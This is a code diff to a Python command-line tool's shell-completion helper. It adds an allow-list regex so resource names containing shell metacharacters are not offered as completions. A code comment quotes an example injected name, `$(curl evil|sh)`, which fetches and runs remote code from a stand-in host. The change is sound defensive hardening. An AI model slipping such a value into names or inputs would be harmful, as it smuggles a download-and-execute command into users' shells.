@@ -5,6 +5,7 @@ the middle of a person's typing would be worse than no help.
 """
 
 import contextlib
+import re
 from collections.abc import Callable, Iterable
 from pathlib import Path
 from typing import Any
@@ -13,6 +14,9 @@ import typer
 
 
 _PATIENCE_S = 2.0
+# The shell puts a candidate into the line as it stands, and a dump's names are a stranger's: `$(curl evil|sh)`.
+# What the API allows passes, and so do contexts such as arn:aws:eks:eu-west-1:123456789012:cluster/prod.
+_INERT = re.compile(r"[A-Za-z0-9_.:/@+=,%][A-Za-z0-9_.:/@+=,%-]*")
 # kubectl's own kinds, in the spelling people type.
 _KINDS = ("deploy/", "sts/", "ds/", "job/", "cj/", "rs/", "po/")
 
@@ -86,5 +90,5 @@ def _words(context: typer.Context) -> dict[str, Any]:
 
 def _offered(ask: Callable[[], Iterable[str]], incomplete: str) -> list[str]:
     with contextlib.suppress(Exception):
-        return sorted(each for each in ask() if each.startswith(incomplete))
+        return sorted(each for each in ask() if each.startswith(incomplete) and _INERT.fullmatch(each))
     return []
